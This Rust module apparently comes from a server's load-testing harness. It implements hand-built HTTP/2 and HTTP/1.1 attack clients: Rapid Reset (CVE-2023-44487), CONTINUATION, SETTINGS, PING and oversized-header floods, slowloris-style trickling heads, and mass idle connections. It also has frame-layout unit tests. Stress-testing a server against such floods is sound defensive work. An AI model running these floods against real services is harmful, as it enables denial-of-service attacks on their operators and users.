//! Hostile clients: frames and bytes by hand, since no library sends them.

use crate::bench::calls::load::broken;
use crate::cluster::Error;
use crate::net;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Connections that flood at once.
const ATTACKERS: usize = 8;

/// Bursts per second of each.
const BURSTS: u64 = 50;

/// Frames, or pairs of frames, of a burst: 40,000 per second from all attackers.
const FRAMES: u32 = 100;

/// Connections that hold on to what they were given; less than what one process may open.
const HOLDERS: usize = 10_000;

/// Connections that never finish their head.
const SLOW: usize = 2_000;

/// How long one of those waits before it sends the next byte.
const TRICKLE: Duration = Duration::from_secs(1);

/// What hostile clients do (S-9).
#[derive(
    clap::ValueEnum, Clone, Copy, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize,
)]
#[serde(rename_all = "kebab-case")]
pub enum Flood {
    /// A call and its reset, again and again (CVE-2023-44487).
    RapidReset,
    /// A header block that never ends (CVE-2024-27983 and its kin).
    Continuation,
    /// SETTINGS that want to be acknowledged.
    Settings,
    /// PING that wants an answer.
    Ping,
    /// Header blocks of 1 MiB.
    Headers,
    /// Two thousand heads that come a byte at a time.
    SlowHead,
    /// Ten thousand connections that say nothing.
    Idle,
}

/// Floods an address until it is dropped; counts writes that the other side took.
pub(crate) async fn start(
    flood: Flood,
    to: SocketAddr,
    taken: &Arc<AtomicU64>,
) -> Result<JoinSet<()>, Error> {
    let mut attackers = JoinSet::new();
    match flood {
        Flood::Idle | Flood::SlowHead => {
            let number = if flood == Flood::Idle { HOLDERS } else { SLOW };
            for _ in 0..number {
                let stream = net::dial_to(to).await.map_err(broken)?;
                attackers.spawn(hold(stream, flood, Arc::clone(taken)));
            }
        }
        _ => {
            for _ in 0..ATTACKERS {
                attackers.spawn(again(flood, to, Arc::clone(taken)));
            }
        }
    }
    Ok(attackers)
}

/// Holds a connection; a slow head gets another byte now and then.
async fn hold(mut stream: net::TcpStream, flood: Flood, taken: Arc<AtomicU64>) {
    if flood == Flood::Idle {
        taken.fetch_add(1, Ordering::Relaxed);
        // Either side may close it.
        let mut rest = [0; 64];
        while stream.read(&mut rest).await.is_ok_and(|read| read > 0) {}
        return;
    }
    for byte in b"POST /bench.Echo/Call HTTP/1.1\r\nhost: "
        .iter()
        .chain([b'a'; 4_096].iter())
    {
        if stream.write_all(&[*byte]).await.is_err() {
            return;
        }
        taken.fetch_add(1, Ordering::Relaxed);
        tokio::time::sleep(TRICKLE).await;
    }
}

/// Sends bursts at a steady rate, on a new connection whenever the last one was closed.
async fn again(flood: Flood, to: SocketAddr, taken: Arc<AtomicU64>) {
    let mut ticks = tokio::time::interval(Duration::from_millis(1_000 / BURSTS));
    ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
    loop {
        ticks.tick().await;
        let Ok(stream) = net::dial_to(to).await else {
            continue;
        };
        let (mut reader, mut writer) = stream.into_split();
        let answers = async {
            let mut rest = [0; 4_096];
            while reader.read(&mut rest).await.is_ok_and(|read| read > 0) {}
        };
        let sends = async {
            let mut first = PREFACE.to_vec();
            frame(&mut first, 4, 0, 0, &[]);
            let mut id = 1;
            if flood == Flood::Continuation {
                frame(&mut first, 1, 0, id, &[]);
            }
            if writer.write_all(&first).await.is_err() {
                return;
            }
            loop {
                let burst = burst(flood, &mut id);
                if writer.write_all(&burst).await.is_err() {
                    return;
                }
                taken.fetch_add(1, Ordering::Relaxed);
                ticks.tick().await;
            }
        };
        tokio::select! {
            () = answers => {}
            () = sends => {}
        }
    }
}

fn burst(flood: Flood, id: &mut u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    match flood {
        Flood::RapidReset => {
            for _ in 0..FRAMES {
                frame(&mut bytes, 1, 0x5, *id, &head());
                frame(&mut bytes, 3, 0, *id, &8_u32.to_be_bytes());
                *id += 2;
            }
        }
        Flood::Continuation => {
            for _ in 0..FRAMES {
                // One header without indexing: `a: b`.
                frame(&mut bytes, 9, 0, *id, &[0, 1, b'a', 1, b'b']);
            }
        }
        Flood::Settings => (0..FRAMES).for_each(|_| frame(&mut bytes, 4, 0, 0, &[])),
        Flood::Ping => (0..FRAMES).for_each(|_| frame(&mut bytes, 6, 0, 0, &[7; 8])),
        Flood::Headers => {
            frame(&mut bytes, 1, 0, *id, &head());
            for part in 0..64 {
                // A value of 16,000 bytes; its length is an integer with a prefix of 7 bits.
                let mut block = vec![0, 1, b'a', 0x7f, 0x81, 0x7c];
                block.resize(block.len() + 16_000, b'b');
                let last = if part == 63 { 0x4 } else { 0 };
                frame(&mut bytes, 9, last, *id, &block);
            }
            *id += 2;
        }
        Flood::SlowHead | Flood::Idle => {}
    }
    bytes
}

/// The head of a call without a credential: `:method: POST`, `:scheme: http`, `:path: /`.
fn head() -> [u8; 3] {
    [0x83, 0x86, 0x84]
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_is_laid_out_as_in_rfc_9113() {
        let mut bytes = Vec::new();
        frame(&mut bytes, 3, 0, 5, &8_u32.to_be_bytes());
        assert_eq!(bytes, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }

    #[test]
    fn a_long_value_has_the_length_that_its_prefix_says() {
        // RFC 7541 5.1: 127 + 1 + 124 * 128.
        let bytes = burst(Flood::Headers, &mut 1);
        let value = 0x01 + (0x7c << 7) + 127;
        assert_eq!(value, 16_000);
        assert_eq!(bytes.len(), 9 + 3 + 64 * (9 + 6 + 16_000));
    }
}
